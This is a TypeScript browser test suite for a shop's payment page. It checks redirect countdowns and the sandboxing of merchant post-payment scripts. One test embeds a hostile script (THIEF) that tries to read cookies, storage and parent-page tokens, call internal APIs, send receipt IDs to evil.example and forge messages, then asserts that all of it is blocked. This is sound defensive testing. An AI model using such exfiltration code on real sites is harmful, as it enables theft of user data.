import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { expectAccessible, reaches, visit } from './browser.ts';
import { openScene } from './scene.ts';
import type { Order } from './shop.ts';

const { shop, browser } = await openScene();

const pay = (page: Page) => page.getByRole('button', { name: 'Pay with a test wallet' }).click();

/** The shop's own site, as far as it answers at all. */
const openSite = (page: Page) =>
  page.route('https://shop.example/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<h1>Back in the shop</h1>' }),
  );

const scriptPath = (order: Order) => order.url.replace('?', '/after-payment?');

// Contract: orders.option-success
test('the buyer reads where the page goes, and is taken there once paid and not before, with what the shop needs to look it up', async () => {
  const merchant = await shop.merchant();
  const order = await shop.order(merchant, { returnUrl: 'https://shop.example/thanks?cart=7', transactionId: 'T 1' });
  const page = await visit(browser, order.url, { before: openSite });
  expect(await page.locator('.leaving').count()).toBe(0);
  await pay(page);
  const notice = page.locator('.leaving');
  expect(await notice.innerText()).toMatch(/^You will be taken to shop\.example in [78] seconds\./);
  expect(['tx_mined', 'generated', 'pending']).not.toContain(await order.status());
  expect(new URL(page.url()).pathname).toBe(`/portal/${order.receiptId}`);
  await page.getByRole('heading', { name: 'Back in the shop' }).waitFor({ timeout: 30_000 });
  const { origin, pathname, searchParams } = new URL(page.url());
  expect([origin, pathname]).toEqual(['https://shop.example', '/thanks']);
  const { status, ...rest } = Object.fromEntries(searchParams);
  expect(['paid', 'completed']).toContain(status);
  expect(rest).toEqual({ cart: '7', receiptId: order.receiptId, transactionId: 'T 1' });

  // Who comes back is not sent away again.
  await page.goto(order.url);
  await page.getByRole('link', { name: /^Return to/ }).waitFor();
  expect(await page.locator('.leaving').count()).toBe(0);
});

// Contract: orders.option-post-payment
test('who chooses to stay stays, also after a reload; who opens a paid receipt elsewhere is not taken away', async () => {
  const order = await shop.order(await shop.merchant(), { onSuccess: 'https://shop.example/next' });
  const page = await visit(browser, order.url, { before: openSite });
  // The tab is hidden, so the countdown waits.
  await page.evaluate(() => Object.defineProperty(document, 'hidden', { value: true, configurable: true }));
  await pay(page);
  await page.locator('.leaving').waitFor();
  await expectAccessible(page);
  await page.evaluate(() => delete (document as { hidden?: boolean }).hidden);
  await page.getByRole('button', { name: 'Stay here' }).click();
  await page.getByRole('link', { name: /^Return to/ }).waitFor();
  expect(await page.locator('.leaving').count()).toBe(0);
  await reaches(page, 'completed');
  await page.reload();
  const other = await visit(browser, order.url, { before: openSite });
  for (const one of [page, other]) {
    const link = one.getByRole('link', { name: /^Return to/ });
    await link.waitFor();
    expect(await link.getAttribute('href')).toMatch(/^https:\/\/shop\.example\/next\?receiptId=R-/);
    expect(await one.locator('.leaving').count()).toBe(0);
  }
});

test('the countdown waits in a hidden tab and continues when the tab is visible', async () => {
  const order = await shop.order(await shop.merchant(), { returnUrl: 'https://shop.example/thanks' });
  const page = await visit(browser, order.url, {
    before: async (fresh) => {
      await openSite(fresh);
      await fresh.addInitScript(() => Object.defineProperty(document, 'hidden', { get: () => 'hide' in window }));
      await fresh.clock.install();
    },
  });
  await pay(page);
  await page.clock.runFor(0);
  await page.locator('.leaving').waitFor();
  await page.evaluate(() => Object.assign(window, { hide: true }));
  await page.clock.runFor(60_000);
  expect(await page.locator('.leaving .seconds').count()).toBe(1);
  await page.evaluate(() => delete (window as { hide?: boolean }).hide);
  await page.clock.runFor(9_000);
  await page.getByRole('heading', { name: 'Back in the shop' }).waitFor();
});

/** Tries everything that a script might want and tells the page around what came of it. */
const THIEF = `
const came = {};
const attempt = async (name, act) => {
  try { came[name] = ['got', String(await act()).slice(0, 60)]; } catch (error) { came[name] = ['denied', error.name]; }
};
const loads = (element, address, attribute = 'src') => new Promise((resolve, reject) => {
  element.onload = () => resolve('loaded');
  element.onerror = () => reject(new DOMException('blocked', 'LoadError'));
  element[attribute] = address;
  document.body.append(element);
});
(async () => {
  const { origin } = new URL(location.href);
  const { nonce } = document.querySelector('script[nonce]') ?? document.currentScript ?? {};
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('page', () => parent.document.body.innerHTML);
  await attempt('token', () => top.document.querySelector('meta[name=page-token]').content);
  await attempt('address', () => parent.location.href);
  await attempt('api', async () => (await fetch(origin + '/api/site/config')).status);
  await attempt('api-no-cors', async () => (await fetch(origin + '/api/site/config', { mode: 'no-cors' })).type);
  await attempt('xhr', () => new Promise((resolve, reject) => {
    const xhr = new XMLHttpRequest();
    xhr.onload = () => resolve(xhr.status);
    xhr.onerror = () => reject(new DOMException('blocked', 'NetworkError'));
    xhr.open('GET', origin + '/api/site/config');
    xhr.send();
  }));
  await attempt('elsewhere', async () => (await fetch('https://evil.example/?' + receipt.receiptId)).status);
  await attempt('picture', () => loads(new Image(), 'https://evil.example/p.png'));
  await attempt('script', () => {
    const script = document.createElement('script');
    script.nonce = [...document.scripts].map((one) => one.nonce).find(Boolean);
    return loads(script, 'https://evil.example/x.js');
  });
  await attempt('style', () => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    return loads(link, 'https://evil.example/x.css', 'href');
  });
  await attempt('eval', () => eval('1 + 1'));
  await attempt('popup', () => { if (!open('https://evil.example/')) throw new DOMException('no window', 'Blocked'); });
  await attempt('top', () => { top.location = 'https://evil.example/'; });
  await attempt('change', () => { receipt.status = 'refunded'; if (receipt.status !== 'refunded') throw new DOMException('frozen', 'Frozen'); });
  parent.postMessage({ type: 'height', height: 1e9 }, '*');
  parent.postMessage({ type: 'receipt', receipt: { status: 'completed' } }, '*');
  parent.postMessage({ came }, '*');
  setTimeout(() => { location.href = 'https://evil.example/?' + receipt.receiptId; }, 0);
})();
`;

/** Collects what frames tell the page, from before anything runs. */
const listen = (page: Page) =>
  page.addInitScript(() => {
    if (window.parent !== window) return;
    const heard: unknown[] = [];
    Object.assign(window, { heard });
    addEventListener('message', ({ data }) => heard.push(data));
  });

test('a script of the shop’s that wants the cookie, the page around it or our API gets none of them', async () => {
  const merchant = await shop.merchant('Kaldi', { postPaymentScripts: true });
  const order = await shop.order(merchant, { onSuccess: THIEF });
  const answered: string[] = [];
  const page = await visit(browser, order.url, {
    denied: /./,
    before: async (fresh) => {
      await listen(fresh);
      await fresh.context().addCookies([{ name: 'probe', value: 'secret', url: shop.server.url }]);
      await fresh.route('https://evil.example/**', (route) => {
        answered.push(route.request().url());
        return route.fulfill({ body: 'stolen' });
      });
      fresh.on('response', (response) => {
        if (response.frame() !== fresh.mainFrame()) answered.push(new URL(response.url()).pathname);
      });
    },
  });
  await pay(page);
  const heard = () =>
    page.evaluate(() => (window as unknown as { heard: { came?: Record<string, string[]> }[] }).heard);
  await expect.poll(async () => (await heard()).some(({ came }) => came), { timeout: 30_000 }).toBe(true);
  const came = (await heard()).find((one) => one.came)!.came!;
  const outcomes = Object.fromEntries(Object.entries(came).map(([name, [outcome]]) => [name, outcome]));
  expect(outcomes).toEqual({
    cookie: 'denied',
    storage: 'denied',
    page: 'denied',
    token: 'denied',
    address: 'denied',
    api: 'denied',
    'api-no-cors': 'denied',
    xhr: 'denied',
    elsewhere: 'denied',
    picture: 'denied',
    script: 'denied',
    style: 'denied',
    eval: 'denied',
    popup: 'denied',
    top: 'denied',
    change: 'denied',
  });
  expect([came.cookie![1], came.page![1], came.token![1]]).toEqual(['SecurityError', 'SecurityError', 'SecurityError']);

  // The same, from a page of this server that is in no sandbox: what was denied was there to be had.
  expect(await page.evaluate(async () => [document.cookie, (await fetch('/api/site/config')).status])).toEqual([
    'probe=secret',
    200,
  ]);
  // The frame wanted to be away at the end; nothing but its own document has ever been answered.
  await reaches(page, 'completed');
  expect(answered).toEqual([new URL(scriptPath(order)).pathname]);
  expect(new URL(page.url()).pathname).toBe(`/portal/${order.receiptId}`);
  expect(await page.locator('#from-shop iframe').evaluate((frame: HTMLElement) => frame.offsetHeight)).toBeLessThan(
    481,
  );
});

// Contract: orders.option-post-payment
test('a script of the shop’s is given the receipt’s public fields and shows the buyer what it makes of them', async () => {
  const merchant = await shop.merchant('Kaldi', { postPaymentScripts: true });
  const order = await shop.order(merchant, {
    email: 'ada@buyer.example',
    firstName: 'Ada',
    transactionId: 'T-9',
    metadata: { secret: 'of the shop' },
    onSuccess:
      "const p = document.createElement('p'); p.textContent = 'Thanks </script> for ' + receipt.receiptId; document.body.append(p);\n" +
      "parent.postMessage({ fields: receipt }, '*')",
  });
  expect((await shop.server.call('GET', new URL(scriptPath(order)).pathname + new URL(order.url).search)).status).toBe(
    404,
  );
  const page = await visit(browser, order.url, { before: listen });
  expect(await page.locator('iframe').count()).toBe(0);
  await pay(page);
  const frame = page.frameLocator('#from-shop iframe');
  await frame.getByText(`Thanks </script> for ${order.receiptId}`).waitFor();
  await page.locator('#from-shop.shown').waitFor();
  const heard = await page.evaluate(() => (window as unknown as { heard: { fields?: object }[] }).heard);
  const fields = heard.find((one) => one.fields)?.fields;
  expect(fields).toEqual({
    receiptId: order.receiptId,
    status: expect.stringMatching(/^(paid|completed)$/),
    brandName: 'Kaldi',
    totalUsd: order.totalUsd,
    currency: 'USD',
    lineItems: expect.arrayContaining([{ label: 'Stoneware mug', priceUsd: 48, qty: 2 }]),
    transactionId: 'T-9',
    transactionHash: expect.stringMatching(/^0x/),
    transactionUrl: null,
    createdAt: expect.any(Number),
  });
  const answer = await fetch(scriptPath(order));
  expect(answer.headers.get('content-security-policy')).toMatch(
    /^sandbox allow-scripts; default-src 'none'; script-src 'nonce-/,
  );
  expect(await answer.text()).not.toContain('ada@');
  const unnamed = await fetch(scriptPath(order).split('?')[0]!);
  expect(unnamed.status).toBe(404);
});

// Contract: orders.option-post-payment
test('while the admin has not switched scripts on, none runs and none is served; switched off again, none any more', async () => {
  const merchant = await shop.merchant();
  const order = await shop.order(merchant, { onSuccess: "parent.postMessage('ran', '*')" });
  const page = await visit(browser, order.url, { before: listen });
  await pay(page);
  await reaches(page, 'completed');
  expect(await page.locator('iframe').count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
  expect((await fetch(scriptPath(order))).status).toBe(404);

  const session = await shop.server.signIn(merchant.account);
  const setTo = (postPaymentScripts: boolean) =>
    shop.server.call('POST', '/api/shop/config', { headers: session, body: { postPaymentScripts } });
  expect((await setTo(true)).status).toBe(200);
  expect((await fetch(scriptPath(order))).status).toBe(200);
  expect((await setTo(false)).status).toBe(200);
  expect((await fetch(scriptPath(order))).status).toBe(404);
});
